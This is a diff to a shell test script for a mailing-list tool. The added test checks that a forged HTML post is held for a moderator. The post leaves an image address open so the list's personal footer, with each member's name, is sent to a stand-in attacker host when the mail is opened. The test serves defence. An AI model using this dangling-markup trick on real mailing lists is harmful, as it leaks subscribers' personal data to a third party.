@@ -4,9 +4,11 @@
 # from a stranger, written in the announcer's name, that puts {{address}}
 # into an image's address (fetched when the mail is opened) or {{name}}
 # into a link is held for the moderator, and no member gets a copy; the
-# preview says so; the poster named in From is told.  A real invitation,
-# names in the text and a plain link beside them, goes out at once.  A
-# moderator who approves the held post decides, and it goes out.
+# preview says so; the poster named in From is told.  So is a post with
+# no placeholder of its own that leaves an image's address open for the
+# list's personal footer to land in.  A real invitation, names in the
+# text and a plain link beside them, goes out at once.  A moderator who
+# approves a held post decides, and it goes out.
 source "$(dirname "$0")/lib.sh"
 testbed < /dev/null
 herald list create invite@lists.example.org --no-prefix >/dev/null
@@ -19,6 +21,9 @@ printf '%s\n' 'address,name,organisation' \
     herald member import invite --csv >/dev/null
 echo '[{"address": "anna@example.com"}, {"address": "bernd@example.net"}]' \
     > "$T/members.json"
+printf 'Subject: -\n\n-- \n{{name}}, to stop these, write to %s\n' \
+    '{{unsubscribe_address}}' | herald list template invite footer --set -
+herald list set invite footer=yes
 
 # forged FILE CONTENT-TYPE BODY: an announcement in the careers office's
 # name, as a stranger would send it.
@@ -66,6 +71,19 @@ check_py not_delivered "$T" "$T/members.json"
 herald held ls --json | grep -q 'placeholder {{name}} stands in a link' ||
     fail "the held link post does not say why"
 note "ok: held, and the moderator is told why"
+clear_mail
+
+echo "an image left open for the footer's placeholders: held"
+forged "$T/open.eml" text/html '<p>News for you.</p>
+<img src="https://evil.example/p.gif?f='
+sed -i 's/^Subject: .*/Subject: News/' "$T/open.eml"
+submit attacker@evil.example invite@lists.example.org "$T/open.eml"
+wait_held 3
+wait_delivered 1
+check_py not_delivered "$T" "$T/members.json"
+herald held ls --json | grep -q 'placeholder {{name}} stands inside HTML' ||
+    fail "the post with an open image is not held for it"
+note "ok: held, though the post itself has no placeholder"
 clear_mail
 
 echo "the real invitation: names in the text, a link beside them: sent"
